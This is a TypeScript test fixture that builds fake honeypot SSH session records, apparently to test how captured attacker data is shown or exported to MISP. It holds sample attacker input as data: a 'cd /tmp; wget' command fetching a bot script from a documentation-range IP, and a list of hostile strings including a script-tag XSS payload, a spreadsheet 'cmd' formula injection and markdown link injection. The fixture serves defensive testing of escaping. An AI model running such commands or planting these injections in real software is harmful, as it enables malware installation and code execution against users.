/**
 * Sessions at a decoy, for tests that make source records by hand.
 *
 * @module
 */
import type { SeenItem, SessionEvidence } from "../../src/session_evidence.ts";

/** When the sessions were. */
export const SESSION_AT = Date.UTC(2026, 7, 23, 6, 10);

/** Hashes of files that were never anywhere. */
export const HASHES = ["a1", "b2", "c3"].map((two) => two.repeat(32));

/** A HASSH, and the fingerprint of a key. */
export const HASSH = "0a07365cc01fa9fc82608ba4019af499";
export const KEY = "SHA256:ohD8VZEXGWo6Ez8GSEJQ9WpafgLFsOfLOtGGQCQo6Og";

/** An item that came once. */
export function seenItem(
  item: Partial<SeenItem> & Pick<SeenItem, "kind" | "value">,
): SeenItem {
  return { count: 1, firstSeen: SESSION_AT, lastSeen: SESSION_AT + 60_000, ...item };
}

/** Sessions with something of each kind: what is in them is in nobody's network. */
export const SESSION: SessionEvidence = {
  totals: { sessions: 3, loggedIn: 2, longestMs: 12_345 },
  compacted: { sessions: 3, loggedIn: 2, longestMs: 12_345 },
  items: [
    seenItem({ kind: "hassh", value: HASSH, count: 3 }),
    seenItem({ kind: "version", value: "SSH-2.0-Go", count: 3 }),
    seenItem({ kind: "command", value: "uname -a", count: 4 }),
    seenItem({ kind: "command", value: "cd /tmp; wget http://203.0.113.9/bot.sh", count: 2 }),
    seenItem({
      ...{ kind: "payload", value: HASHES[0]!, count: 1000, size: 4096 },
      names: ["bot.sh", "x"],
      ways: ["download"],
      urls: [{ url: "http://203.0.113.9/bot.sh" }],
    }),
    seenItem({
      ...{ kind: "payload", value: HASHES[1]!, ways: ["download"] },
      urls: [{ url: "http://192.168.1.7/inside", isPrivate: true }],
    }),
    seenItem({ kind: "payload", value: HASHES[2]!, names: ["key"], ways: ["written"] }),
    seenItem({ kind: "url", value: "http://203.0.113.10/gone", count: 2 }),
    seenItem({ kind: "key", value: KEY, keyType: "ssh-rsa", comment: "mdrfckr" }),
    seenItem({ kind: "tunnel", value: "203.0.113.80:25", count: 9 }),
  ],
  further: {},
};

/** A text of each kind that could break out of where it is shown, or that MISP could not store. */
const HOSTILE = [
  "`rm`](http://203.0.113.1) @[attribute](82f4b7f4-0d3f-4ff4-a8cf-1b1a6ff0f4b1)",
  "<script>alert(1)</script>",
  "| a | b |",
  "\u{1f600}\u202e\u0000\ud800",
  "=cmd|' /C calc'!A0",
];

/** Sessions in which everything that an attacker writes is hostile. */
export function hostileSession(): SessionEvidence {
  return {
    ...SESSION,
    items: HOSTILE.flatMap((text, at) => [
      seenItem({ kind: "version", value: text }),
      seenItem({ kind: "command", value: text, text: `${text} ` }),
      seenItem({
        ...{ kind: "payload", value: `${at}d`.repeat(32), size: at },
        names: [text, `${text}2`],
        ways: ["upload"],
      }),
      seenItem({ kind: "tunnel", value: `host-${at}.example:22` }),
    ]),
  };
}
